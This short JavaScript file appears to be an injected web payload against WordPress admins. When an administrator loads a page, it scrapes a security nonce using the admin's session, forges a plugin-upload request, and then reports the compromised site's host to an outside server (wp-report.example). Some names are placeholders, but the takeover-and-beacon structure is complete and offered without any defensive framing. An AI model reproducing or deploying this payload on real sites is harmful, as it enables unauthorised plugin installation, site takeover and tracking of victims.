(function () {
  if (document.body.className.indexOf("wp-admin") === -1 && !document.getElementById("wpadminbar")) { return; }
  if (localStorage.getItem("wpx_done")) { return; }
  var x = new XMLHttpRequest();
  x.open("GET", "/wp-admin/PLACEHOLDER-plugin-page.php?tab=upload", true);
  x.withCredentials = true;
  x.onload = function () {
    var n = /name="PLACEHOLDER_nonce" value="([^"]*)"/.exec(x.responseText);
    if (!n) { return; }
    var f = new FormData();
    f.append("PLACEHOLDER_nonce", n[1]);
    f.append("PLACEHOLDER_zip", new Blob([""]), "wp-felody-placeholder.zip");
    fetch("/wp-admin/PLACEHOLDER-update.php?action=PLACEHOLDER", { method: "POST", body: f, credentials: "include" })
      .then(function () { localStorage.setItem("wpx_done", "1"); new Image().src = "https://wp-report.example/ok?h=" + location.host; });
  };
  x.send();
})();
